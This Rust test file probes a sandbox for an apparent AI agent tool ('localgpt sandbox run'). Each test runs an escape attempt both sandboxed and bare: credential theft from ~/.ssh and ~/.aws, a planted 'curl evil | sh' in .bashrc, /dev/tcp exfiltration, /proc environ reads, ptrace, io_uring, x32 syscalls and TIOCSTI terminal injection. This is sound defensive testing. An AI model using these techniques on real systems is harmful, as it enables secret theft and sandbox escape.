//! Escape probes against the real `localgpt sandbox run` binary.
//!
//! Every probe is checked from OUTSIDE the sandbox (canary file unchanged, listener saw nothing,
//! process still alive, file absent) and every probe is also run bare, where it must succeed,
//! otherwise it would prove nothing. Must pass as root and as an unprivileged user.

mod support;

use std::fs;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::process::CommandExt;

use support::*;

// ---------------------------------------------------------------------------------------------
// Filesystem
// ---------------------------------------------------------------------------------------------

#[test]
fn write_new_file_outside_is_blocked() {
    let w = World::new();
    let target = w.outside.join("pwned.txt");
    let snippet = format!("echo pwned > {}", sh_quote(&target));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| target.exists());
}

#[test]
fn write_new_file_in_home_is_blocked() {
    let w = World::new();
    let target = w.home.join("pwned.txt");
    let snippet = format!("echo pwned > {}", sh_quote(&target));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| target.exists());
}

#[test]
fn append_to_home_bashrc_is_blocked() {
    let w = World::new();
    let bashrc = w.home.join(".bashrc");
    let original = fs::read_to_string(&bashrc).unwrap();
    let snippet = format!("echo 'curl evil | sh' >> {}", sh_quote(&bashrc));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| {
        fs::read_to_string(&bashrc).unwrap() != original
    });
}

#[test]
fn append_to_outside_canary_is_blocked() {
    let w = World::new();
    let snippet = format!("echo pwned >> {}", sh_quote(&w.canary));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| !w.canary_intact());
}

#[test]
fn truncate_and_delete_outside_canary_is_blocked() {
    let w = World::new();
    let snippet = format!(": > {c}; rm -f {c}", c = sh_quote(&w.canary));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| !w.canary_intact());
}

#[test]
fn write_through_symlink_in_workspace_is_blocked() {
    let w = World::new();
    let snippet = format!(
        "rm -f link; ln -s {} link && echo pwned >> link",
        sh_quote(&w.canary)
    );
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| !w.canary_intact());
}

#[test]
fn write_through_hardlink_in_workspace_is_blocked() {
    let w = World::new();
    let snippet = format!(
        "rm -f hl; ln {} hl && echo pwned >> hl",
        sh_quote(&w.canary)
    );
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| !w.canary_intact());
}

#[test]
fn rename_outside_canary_into_workspace_is_blocked() {
    let w = World::new();
    let snippet = format!("mv {} stolen.txt", sh_quote(&w.canary));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| !w.canary.exists());
}

#[test]
fn reading_ssh_key_and_aws_credentials_is_blocked() {
    let w = World::new();
    let snippet = format!(
        "cat {k}; cat {a}; cp {k} ws_copy_of_key; rm -f kl; ln -s {k} kl; cat kl",
        k = sh_quote(w.home.join(".ssh/id_rsa")),
        a = sh_quote(w.home.join(".aws/credentials")),
    );
    let copy = w.ws.join("ws_copy_of_key");
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| {
        o.stdout.contains(SSH_SECRET)
            || o.stdout.contains(AWS_SECRET)
            || o.stderr.contains(SSH_SECRET)
            || o.stderr.contains(AWS_SECRET)
            || fs::read_to_string(&copy)
                .map(|s| s.contains(SSH_SECRET))
                .unwrap_or(false)
    });
}

#[test]
fn listing_ssh_dir_is_blocked() {
    let w = World::new();
    let snippet = format!("ls -la {}", sh_quote(w.home.join(".ssh")));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| o.stdout.contains("id_rsa"));
}

#[test]
fn reading_outside_canary_and_other_home_files_is_blocked() {
    let w = World::new();
    let snippet = format!(
        "cat {}; cat {}",
        sh_quote(&w.canary),
        sh_quote(w.home.join(".bashrc"))
    );
    let needle = OUTSIDE_CANARY.trim();
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| {
        o.stdout.contains(needle) || o.stdout.contains(BASHRC_MARKER)
    });
}

#[test]
fn denied_path_inside_workspace_is_unreadable() {
    let w = World::new();
    let secret = w.ws.join("secret.env");
    fs::write(&secret, "API_TOKEN=ws-deny-secret-88aa\n").unwrap();
    let deny = secret.to_string_lossy().into_owned();
    assert_blocked_but_escapes_bare(&w, &["--deny", &deny], "cat secret.env", |o| {
        o.stdout.contains("ws-deny-secret-88aa")
    });
}

#[test]
fn read_only_mode_blocks_tmp_writes() {
    let w = World::new();
    let target = std::path::PathBuf::from(format!("/tmp/lg-ro-{}", unique_token()));
    let snippet = format!("echo x > {}", sh_quote(&target));
    let r = std::panic::catch_unwind(|| {
        assert_blocked_but_escapes_bare(&w, &["--mode", "read-only"], &snippet, |_| {
            target.exists()
        });
    });
    let _ = fs::remove_file(&target);
    if let Err(e) = r {
        std::panic::resume_unwind(e);
    }
}

#[test]
fn read_only_mode_blocks_workspace_writes() {
    let w = World::new();
    let target = w.ws.join("ro-write.txt");
    assert_blocked_but_escapes_bare(
        &w,
        &["--mode", "read-only"],
        "echo x > ro-write.txt",
        |_| target.exists(),
    );
}

// ---------------------------------------------------------------------------------------------
// Network
// ---------------------------------------------------------------------------------------------

#[test]
fn tcp_connect_to_live_listener_is_blocked() {
    let w = World::new();
    let mut probe = TcpProbe::new();
    let snippet = format!("echo exfil >/dev/tcp/127.0.0.1/{}", probe.port);
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| probe.observe().anything());
}

#[test]
fn udp_sendto_is_blocked() {
    let w = World::new();
    let probe = UdpProbe::new();
    let mut snippet = format!("echo exfil >/dev/udp/127.0.0.1/{}", probe.port);
    if let Some(py) = python3() {
        let script = w.ws_file(
            "udp.py",
            "import socket, sys\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             s.sendto(b'exfil-py', ('127.0.0.1', int(sys.argv[1])))\n\
             print('ESCAPED udp sendto')\n",
        );
        snippet.push_str(&format!(
            "; {} {} {}",
            sh_quote(py),
            sh_quote(&script),
            probe.port
        ));
    } else {
        skip(
            "udp_sendto_is_blocked",
            "python3 variant not run (no usable python3); bash /dev/udp variant still checked",
        );
    }
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| probe.observe().anything());
}

#[test]
fn creating_inet_netlink_sockets_fails_with_eperm() {
    let name = "creating_inet_netlink_sockets_fails_with_eperm";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let w = World::new();
    let script = w.ws_file(
        "sockets.py",
        r#"import socket
fams = [("inet", socket.AF_INET, socket.SOCK_STREAM, 0),
        ("inet_dgram", socket.AF_INET, socket.SOCK_DGRAM, 0),
        ("inet6", socket.AF_INET6, socket.SOCK_STREAM, 0),
        ("netlink", socket.AF_NETLINK, socket.SOCK_RAW, 0),
        ("netlink_audit", socket.AF_NETLINK, socket.SOCK_RAW, 9),
        ("netlink_uevent", socket.AF_NETLINK, socket.SOCK_DGRAM, 15)]
for name, fam, typ, proto in fams:
    try:
        s = socket.socket(fam, typ, proto)
        print("CREATED %s" % name)
        s.close()
    except OSError as e:
        print("FAILED %s errno=%d" % (name, e.errno))
"#,
    );
    let snippet = format!("echo {STARTED}; {} {}", sh_quote(py), sh_quote(&script));
    let bare = w.bare(&snippet);
    let sb = w.sandboxed(&snippet);
    let full = suite_level(&w) == "full";
    assert!(
        sb.stdout.contains(STARTED),
        "sandboxed command did not run{}",
        sb.describe()
    );
    for fam in ["inet", "inet_dgram", "inet6", "netlink", "netlink_audit", "netlink_uevent"] {
        if !bare.stdout.contains(&format!("CREATED {fam}\n")) {
            skip(
                name,
                &format!(
                    "bare run cannot create a {fam} socket here, not checked{}",
                    bare.describe()
                ),
            );
            continue;
        }
        // At Full the sandbox has its own network namespace (only lo): TCP and UDP sockets may be
        // created there (local servers), and what they reach is checked from outside by
        // `full_level_inet_reaches_nothing_outside`. Routing netlink sockets may be created at
        // every level (getifaddrs: at Full it sees only lo; at Standard what /sys/class/net and
        // /proc/net already show; without capabilities nothing can be changed, which the escape
        // corpus's netlink-route-add-address checks on the host's lo). Every other netlink
        // family stays refused everywhere.
        // TCP stream sockets may be created at Standard too where the runner answers bind,
        // listen and connect (loopback only, only to the sandbox's own listeners: the escape
        // corpus's tcp-* vectors check that from outside); UDP stays refused there.
        if (full && !fam.starts_with("netlink")) || fam == "netlink" || fam == "inet" || fam == "inet6" {
            continue;
        }
        assert!(
            sb.stdout.contains(&format!("FAILED {fam} errno=1\n")),
            "{fam} socket: expected EPERM (errno=1) inside the sandbox{}",
            sb.describe()
        );
    }
}

/// At Full a TCP or UDP socket can be made, but a host listener on 127.0.0.1 sees nothing of it
/// (the sandbox's loopback is its own); bare, it does.
#[test]
fn full_level_inet_reaches_nothing_outside() {
    let name = "full_level_inet_reaches_nothing_outside";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let w = World::new();
    if suite_level(&w) != "full" {
        skip(name, "the suite does not run at level full");
        return;
    }
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let (tp, up) = (tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port());
    let script = w.ws_file("reach.py", &format!(
        "import socket\n\
         try:\n    s = socket.create_connection(('127.0.0.1', {tp}), timeout=2); s.sendall(b'exfil'); print('TCP-SENT')\n\
         except OSError as e:\n    print('TCP-FAILED', e.errno)\n\
         u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         try:\n    u.sendto(b'exfil', ('127.0.0.1', {up})); print('UDP-SENT')\n\
         except OSError as e:\n    print('UDP-FAILED', e.errno)\n"
    ));
    let seen = |tcp: &std::net::TcpListener, udp: &std::net::UdpSocket| {
        std::thread::sleep(std::time::Duration::from_millis(200));
        let mut buf = [0u8; 64];
        (tcp.accept().is_ok(), udp.recv(&mut buf).is_ok())
    };
    let snippet = format!("echo {STARTED}; {} {}", sh_quote(py), sh_quote(&script));
    let sb = w.sandboxed(&snippet);
    assert!(sb.stdout.contains(STARTED), "{}", sb.describe());
    assert_eq!(seen(&tcp, &udp), (false, false), "a listener outside saw the sandbox's traffic{}", sb.describe());
    let bare = w.bare(&snippet);
    assert_eq!(seen(&tcp, &udp), (true, true), "bare, the listeners should see the traffic{}", bare.describe());
}

#[test]
fn raw_socket_is_blocked() {
    let name = "raw_socket_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    if !is_root() {
        skip(
            name,
            "raw sockets need CAP_NET_RAW: the bare escape cannot happen as an unprivileged user",
        );
        return;
    }
    let w = World::new();
    let script = w.ws_file(
        "raw.py",
        "import socket\n\
         try:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('CREATED raw')\n\
         except OSError as e:\n    print('FAILED raw errno=%d' % e.errno)\n",
    );
    let snippet = format!("{} {}", sh_quote(py), sh_quote(&script));
    let (sb, _) =
        assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| o.stdout.contains("CREATED raw"));
    assert!(
        sb.stdout.contains("FAILED raw errno=1"),
        "expected EPERM{}",
        sb.describe()
    );
}

#[test]
fn connect_to_pathname_unix_socket_outside_is_blocked() {
    let name = "connect_to_pathname_unix_socket_outside_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let w = World::new();
    let mut probe = UnixProbe::pathname(&w.outside.join("agent.sock"));
    let script = w.ws_file(
        "unix.py",
        "import socket, sys\n\
         s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n\
         s.connect(sys.argv[1])\n\
         s.sendall(b'exfil')\n\
         print('ESCAPED unix connect')\n",
    );
    let snippet = format!(
        "{} {} {}",
        sh_quote(py),
        sh_quote(&script),
        sh_quote(&probe.name)
    );
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| probe.observe().anything());
}

#[test]
fn connect_to_abstract_unix_socket_is_blocked() {
    let name = "connect_to_abstract_unix_socket_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let w = World::new();
    let mut probe = UnixProbe::abstract_name();
    let script = w.ws_file(
        "abstract.py",
        "import socket, sys\n\
         s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n\
         s.connect('\\0' + sys.argv[1])\n\
         s.sendall(b'exfil')\n\
         print('ESCAPED abstract connect')\n",
    );
    let snippet = format!(
        "{} {} {}",
        sh_quote(py),
        sh_quote(&script),
        sh_quote(&probe.name)
    );
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| probe.observe().anything());
}

/// Datagram probe: sendto and sendmsg with a destination address on an unconnected AF_UNIX
/// datagram socket (no connect(2) involved). argv[1] is the address ('@name' = abstract).
const UNIX_DGRAM_PY: &str = r#"import socket, sys
addr = sys.argv[1]
if addr.startswith("@"):
    addr = "\0" + addr[1:]
for how in ("sendto", "sendmsg"):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        if how == "sendto":
            s.sendto(b"exfil-" + how.encode(), addr)
        else:
            s.sendmsg([b"exfil-" + how.encode()], [], 0, addr)
        print("ESCAPED unix dgram %s" % how, flush=True)
    except OSError as e:
        print("%s errno=%d" % (how, e.errno), flush=True)
"#;

fn dgram_received(receiver: &std::os::unix::net::UnixDatagram) -> bool {
    std::thread::sleep(std::time::Duration::from_millis(100));
    let mut buf = [0u8; 64];
    let mut any = false;
    while receiver.recv(&mut buf).is_ok() {
        any = true;
    }
    any
}

#[test]
fn unix_datagram_sendto_outside_is_blocked() {
    let name = "unix_datagram_sendto_outside_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let w = World::new();
    // Like /dev/log or /run/systemd/journal/socket: a pathname datagram socket outside.
    let path = w.outside.join("dgram.sock");
    let receiver = std::os::unix::net::UnixDatagram::bind(&path).unwrap();
    receiver.set_nonblocking(true).unwrap();
    let script = w.ws_file("udgram.py", UNIX_DGRAM_PY);
    let snippet = format!("{} {} {}", sh_quote(py), sh_quote(&script), sh_quote(&path));
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| dgram_received(&receiver));
}

#[test]
fn abstract_unix_datagram_sendto_is_blocked() {
    use std::os::linux::net::SocketAddrExt;
    let name = "abstract_unix_datagram_sendto_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let w = World::new();
    let abs = format!("localgpt-dgram-{}", unique_token());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(abs.as_bytes()).unwrap();
    let receiver = std::os::unix::net::UnixDatagram::bind_addr(&addr).unwrap();
    receiver.set_nonblocking(true).unwrap();
    let script = w.ws_file("adgram.py", UNIX_DGRAM_PY);
    let snippet = format!(
        "{} {} {}",
        sh_quote(py),
        sh_quote(&script),
        sh_quote(format!("@{abs}"))
    );
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| dgram_received(&receiver));
}

#[test]
fn inherited_connected_socket_is_not_usable() {
    // A connected TCP socket that the caller leaked (no CLOEXEC) as fd 9 must not reach the
    // sandboxed command (the helper closes or CLOEXECs every fd above 2).
    let w = World::new();
    let mut probe = TcpProbe::new();
    let stream = std::net::TcpStream::connect(("127.0.0.1", probe.port)).unwrap();
    assert_eq!(
        probe.observe().connections,
        1,
        "setup: the test's own connection"
    );
    let fd = stream.as_raw_fd();
    let leak = move |cmd: &mut std::process::Command| {
        // SAFETY: dup2 is async-signal-safe; the new fd 9 has no CLOEXEC.
        unsafe {
            cmd.pre_exec(move || {
                if libc::dup2(fd, 9) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    };
    let snippet = format!("echo {STARTED}; echo leaked-via-fd9 >&9");

    let mut sb_cmd = w.sandbox_cmd(&[], &[&snippet]);
    leak(&mut sb_cmd);
    let sb = run(sb_cmd, "sandboxed with leaked fd 9");
    assert!(
        sb.stdout.contains(STARTED),
        "sandboxed command did not run{}",
        sb.describe()
    );
    let seen = probe.observe();
    assert!(
        seen.data.is_empty(),
        "ESCAPE: data arrived through the inherited socket: {:?}{}",
        seen,
        sb.describe()
    );

    let mut bare_cmd = w.bare_cmd(&snippet);
    leak(&mut bare_cmd);
    let bare = run(bare_cmd, "bare with leaked fd 9");
    let seen = probe.observe();
    assert!(
        !seen.data.is_empty(),
        "probe is broken: bare write to fd 9 did not arrive{}",
        bare.describe()
    );
    drop(stream);
}

// ---------------------------------------------------------------------------------------------
// Processes
// ---------------------------------------------------------------------------------------------

#[test]
fn kill_process_outside_is_blocked() {
    let w = World::new();
    let mut canary = CanaryProcess::spawn();
    assert!(canary.alive());
    let snippet = format!("kill -9 {}", canary.pid());
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| {
        // give a delivered SIGKILL time to land
        std::thread::sleep(std::time::Duration::from_millis(100));
        !canary.alive()
    });
}

#[test]
fn reading_environ_of_outside_process_is_blocked() {
    // Agent hosts keep API keys in their environment: /proc/PID/environ of a process outside
    // the sandbox must stay unreadable.
    let w = World::new();
    let canary =
        CanaryProcess::spawn_in(&w.outside, &[("LG_CANARY_API_KEY", "environ-secret-61f0")]);
    let snippet = format!("tr '\\0' '\\n' < /proc/{}/environ", canary.pid());
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| {
        o.stdout.contains("environ-secret-61f0")
    });
}

#[test]
fn write_via_proc_pid_cwd_of_outside_process_is_blocked() {
    let w = World::new();
    let canary = CanaryProcess::spawn_in(&w.outside, &[]);
    let target = w.outside.join("via-proc-cwd.txt");
    let snippet = format!("echo pwned > /proc/{}/cwd/via-proc-cwd.txt", canary.pid());
    assert_blocked_but_escapes_bare(&w, &[], &snippet, |_| target.exists());
}

#[test]
fn process_vm_readv_of_outside_process_is_blocked() {
    let name = "process_vm_readv_of_outside_process_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    if read_proc_int("/proc/sys/kernel/yama/ptrace_scope").unwrap_or(0) >= 1 && !is_root() {
        skip(
            name,
            "yama ptrace_scope >= 1 and not root: process_vm_readv of a non-child fails bare too",
        );
        return;
    }
    let w = World::new();
    let canary = CanaryProcess::spawn();
    // The address of the canary's first mapping, read from outside.
    let maps = fs::read_to_string(format!("/proc/{}/maps", canary.pid())).unwrap();
    let start = maps.split('-').next().unwrap().to_string();
    let script = w.ws_file(
        "vmread.py",
        r#"import ctypes, sys
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_readv.restype = ctypes.c_ssize_t
buf = ctypes.create_string_buffer(16)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 16)
remote = iovec(int(sys.argv[2], 16), 16)
r = libc.process_vm_readv(int(sys.argv[1]), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print("process_vm_readv r=%d errno=%d" % (r, ctypes.get_errno()), flush=True)
if r > 0:
    print("ESCAPED read %r" % buf.raw[:r], flush=True)
"#,
    );
    let snippet = format!(
        "{} {} {} {}",
        sh_quote(py),
        sh_quote(&script),
        canary.pid(),
        start
    );
    let (sb, _) =
        assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| o.stdout.contains("ESCAPED read"));
    assert!(
        sb.stdout.contains("process_vm_readv r=-1 errno=1\n"),
        "expected EPERM inside{}",
        sb.describe()
    );
}

#[test]
fn ptrace_attach_to_parent_is_blocked() {
    let name = "ptrace_attach_to_parent_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let scope = read_proc_int("/proc/sys/kernel/yama/ptrace_scope");
    let bare_can = match scope {
        None | Some(0) => true,
        Some(1) | Some(2) => is_root(),
        Some(_) => false,
    };
    if !bare_can {
        skip(
            name,
            &format!("yama ptrace_scope={scope:?} and euid={}: a bare PTRACE_ATTACH to the parent cannot succeed here", euid()),
        );
        return;
    }
    let w = World::new();
    // The parent is the bash that runs `python; echo` (the trailing command stops bash from
    // exec'ing python). On success: wait for the attach-stop, detach without a signal.
    let script = w.ws_file(
        "ptrace.py",
        r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ppid = os.getppid()
r = libc.ptrace(16, ppid, None, None)
print("ptrace_attach r=%d errno=%d" % (r, ctypes.get_errno()), flush=True)
if r == 0:
    os.waitpid(ppid, 0x40000000)
    libc.ptrace(17, ppid, None, None)
    print("ESCAPED ptrace attached", flush=True)
"#,
    );
    let snippet = format!("{} {}; echo parent-alive", sh_quote(py), sh_quote(&script));
    let (sb, _) =
        assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| o.stdout.contains("ESCAPED ptrace"));
    assert!(
        sb.stdout.contains("ptrace_attach r=-1 errno=1\n"),
        "expected ptrace to fail with EPERM inside{}",
        sb.describe()
    );
}

// ---------------------------------------------------------------------------------------------
// seccomp gaps: io_uring, x32
// ---------------------------------------------------------------------------------------------

#[test]
fn io_uring_setup_is_blocked() {
    let name = "io_uring_setup_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    match read_proc_int("/proc/sys/kernel/io_uring_disabled") {
        Some(2) => {
            skip(
                name,
                "kernel.io_uring_disabled=2: io_uring_setup fails bare too",
            );
            return;
        }
        Some(1) if !is_root() => {
            skip(
                name,
                "kernel.io_uring_disabled=1 and not root: io_uring_setup fails bare too",
            );
            return;
        }
        _ => {}
    }
    let w = World::new();
    let script = w.ws_file(
        "uring.py",
        r#"import ctypes
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
r = libc.syscall(425, 8, params)
print("io_uring_setup r=%d errno=%d" % (r, ctypes.get_errno()), flush=True)
if r >= 0:
    print("ESCAPED io_uring fd", flush=True)
"#,
    );
    let snippet = format!("{} {}", sh_quote(py), sh_quote(&script));
    let (sb, _) = assert_blocked_but_escapes_bare(&w, &[], &snippet, |o| {
        o.stdout.contains("ESCAPED io_uring")
    });
    assert!(
        sb.stdout.contains("io_uring_setup r=-1 errno=1\n"),
        "expected io_uring_setup to fail with EPERM inside{}",
        sb.describe()
    );
}

#[test]
fn x32_syscall_is_blocked() {
    let name = "x32_syscall_is_blocked";
    if !cfg!(target_arch = "x86_64") {
        skip(name, "x32 syscalls exist only on x86_64");
        return;
    }
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    let w = World::new();
    // getpid through the x32 ABI (nr | 0x40000000). seccomp runs before the kernel dispatches
    // the call, so a filter that closes the x32 gap answers EPERM even on a kernel built
    // without (or booted with disabled) x32 support, where the bare call gets ENOSYS.
    let script = w.ws_file(
        "x32.py",
        r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.syscall(0x40000000 + 39)
e = ctypes.get_errno()
print("x32_getpid r=%d errno=%d pid=%d" % (r, e, os.getpid()), flush=True)
"#,
    );
    let snippet = format!("echo {STARTED}; {} {}", sh_quote(py), sh_quote(&script));
    let bare = w.bare(&snippet);
    let sb = w.sandboxed(&snippet);
    assert!(
        sb.stdout.contains(STARTED),
        "sandboxed command did not run{}",
        sb.describe()
    );
    let parse = |o: &Out| -> Option<(i64, i64)> {
        let line = o.stdout.lines().find(|l| l.starts_with("x32_getpid"))?;
        let mut r = None;
        let mut e = None;
        for kv in line.split_whitespace() {
            if let Some(v) = kv.strip_prefix("r=") {
                r = v.parse().ok();
            }
            if let Some(v) = kv.strip_prefix("errno=") {
                e = v.parse().ok();
            }
        }
        Some((r?, e?))
    };
    let (br, be) =
        parse(&bare).unwrap_or_else(|| panic!("bare probe printed nothing{}", bare.describe()));
    let (sr, se) =
        parse(&sb).unwrap_or_else(|| panic!("sandboxed probe printed nothing{}", sb.describe()));
    assert!(
        br > 0 || (br == -1 && be == libc::ENOSYS as i64),
        "probe is broken: bare x32 getpid gave r={br} errno={be}{}",
        bare.describe()
    );
    if br == -1 {
        println!("note: x32 ABI disabled in this kernel (bare x32 getpid -> ENOSYS); checking that the filter answers EPERM first");
    }
    assert!(
        sr == -1 && se == libc::EPERM as i64,
        "x32 getpid inside the sandbox: expected r=-1 errno=EPERM (seccomp), got r={sr} errno={se}{}",
        sb.describe()
    );
}

// ---------------------------------------------------------------------------------------------
// Terminal injection: TIOCSTI
// ---------------------------------------------------------------------------------------------

struct Pty {
    master: OwnedFd,
    slave: OwnedFd,
    slave_path: String,
}

fn open_pty() -> Pty {
    let mut m: libc::c_int = -1;
    let mut s: libc::c_int = -1;
    let mut name = [0 as libc::c_char; 128];
    // SAFETY: out-pointers are valid; termios/winsize may be NULL.
    let r = unsafe {
        libc::openpty(
            &mut m,
            &mut s,
            name.as_mut_ptr(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: openpty returned two fresh fds that we now own.
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(m), OwnedFd::from_raw_fd(s)) };
    // SAFETY: name is NUL-terminated by openpty.
    let slave_path = unsafe { std::ffi::CStr::from_ptr(name.as_ptr()) }
        .to_string_lossy()
        .into_owned();
    // SAFETY: fcntl on an fd we own.
    unsafe {
        let fl = libc::fcntl(master.as_raw_fd(), libc::F_GETFL);
        libc::fcntl(master.as_raw_fd(), libc::F_SETFL, fl | libc::O_NONBLOCK);
    }
    Pty {
        master,
        slave,
        slave_path,
    }
}

/// Bytes that reached the terminal, from outside: echo on the master side plus whatever sits
/// in the slave's input queue.
fn pty_injected(p: &Pty) -> (Vec<u8>, i32) {
    std::thread::sleep(std::time::Duration::from_millis(100));
    let mut buf = [0u8; 4096];
    let mut got = vec![];
    loop {
        // SAFETY: reading into a valid buffer from an fd we own.
        let n = unsafe { libc::read(p.master.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
        if n <= 0 {
            break;
        }
        got.extend_from_slice(&buf[..n as usize]);
    }
    let mut inq: libc::c_int = 0;
    // SAFETY: FIONREAD writes an int.
    unsafe { libc::ioctl(p.slave.as_raw_fd(), libc::FIONREAD, &mut inq) };
    (got, inq)
}

#[test]
fn tiocsti_injection_is_blocked() {
    let name = "tiocsti_injection_is_blocked";
    let Some(py) = python3_or_skip(name) else {
        return;
    };
    if read_proc_int("/proc/sys/dev/tty/legacy_tiocsti") == Some(0) && !is_root() {
        skip(
            name,
            "dev.tty.legacy_tiocsti=0 and not root: TIOCSTI fails bare too",
        );
        return;
    }
    let w = World::new();
    // Tries fd 0, /dev/tty and the slave path; each both with the plain request and with high
    // bits set (the kernel truncates the request to 32 bits: CVE-2019-10063).
    let script = w.ws_file(
        "tiocsti.py",
        r#"import ctypes, os, sys, termios
libc = ctypes.CDLL(None, use_errno=True)
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
def attempt(label, fd):
    for req_label, req in (("plain", termios.TIOCSTI), ("hibits", termios.TIOCSTI | (1 << 32))):
        ok = True
        for ch in (b"Q", b"\n"):
            if libc.ioctl(fd, req, ch) != 0:
                print("%s/%s errno=%d" % (label, req_label, ctypes.get_errno()), flush=True)
                ok = False
                break
        if ok:
            print("ESCAPED TIOCSTI via %s/%s" % (label, req_label), flush=True)
attempt("stdin", 0)
for path, flags in (("/dev/tty", os.O_RDWR), (sys.argv[1], os.O_RDWR | os.O_NOCTTY)):
    try:
        fd = os.open(path, flags)
    except OSError as e:
        print("open %s errno=%d" % (path, e.errno), flush=True)
        continue
    attempt(path, fd)
"#,
    );
    let snippet_for = |p: &Pty| {
        format!(
            "echo {STARTED}; {} {} {}",
            sh_quote(py),
            sh_quote(&script),
            sh_quote(&p.slave_path)
        )
    };
    // The caller's terminal is the pty: new session, pty as controlling tty, pty as stdin.
    let attach = |cmd: &mut std::process::Command, p: &Pty| {
        let slave = p.slave.try_clone().unwrap();
        cmd.stdin(std::process::Stdio::from(slave));
        // SAFETY: setsid and ioctl are async-signal-safe.
        unsafe {
            cmd.pre_exec(|| {
                libc::setsid();
                libc::ioctl(0, libc::TIOCSCTTY as _, 0);
                Ok(())
            });
        }
    };

    let sb_pty = open_pty();
    let mut sb_cmd = w.sandbox_cmd(&[], &[&snippet_for(&sb_pty)]);
    attach(&mut sb_cmd, &sb_pty);
    let sb = run(sb_cmd, "sandboxed TIOCSTI probe");
    assert!(
        sb.stdout.contains(STARTED),
        "sandboxed command did not run{}",
        sb.describe()
    );
    let (echoed, inq) = pty_injected(&sb_pty);
    assert!(
        !echoed.contains(&b'Q') && inq == 0,
        "ESCAPE: TIOCSTI injected input into the caller's terminal (master saw {:?}, slave input queue {inq}){}",
        String::from_utf8_lossy(&echoed),
        sb.describe()
    );
    assert!(
        !sb.stdout.contains("ESCAPED"),
        "TIOCSTI reported success inside{}",
        sb.describe()
    );

    let bare_pty = open_pty();
    let mut bare_cmd = w.bare_cmd(&snippet_for(&bare_pty));
    attach(&mut bare_cmd, &bare_pty);
    let bare = run(bare_cmd, "bare TIOCSTI probe");
    let (echoed, inq) = pty_injected(&bare_pty);
    assert!(
        echoed.contains(&b'Q') || inq > 0,
        "probe is broken: bare TIOCSTI did not reach the terminal (master {:?}, inq {inq}){}",
        String::from_utf8_lossy(&echoed),
        bare.describe()
    );
}

/// A deny inside a read grant under /tmp holds at every level (at Full the grant is bound back
/// into the private /tmp and the deny is masked on top of it), and a writable grant under /tmp
/// does not make the rest of the host's /tmp writable (issue 20, item 4).
#[test]
fn grants_under_tmp_keep_denies_and_the_rest_of_tmp_private() {
    let w = World::new();
    let dir = tempfile::Builder::new().prefix("lg-tmpgrant-").tempdir_in("/tmp").unwrap();
    let (t, b) = (dir.path().to_path_buf(), dir.path().join("b"));
    std::fs::create_dir(&b).unwrap();
    std::fs::write(b.join("s"), "TMP-DENIED-SECRET\n").unwrap();
    std::fs::create_dir(t.join("out")).unwrap();
    // chmod so that an unprivileged test user can use the grant at all.
    for p in [&t, &b, &t.join("out")] {
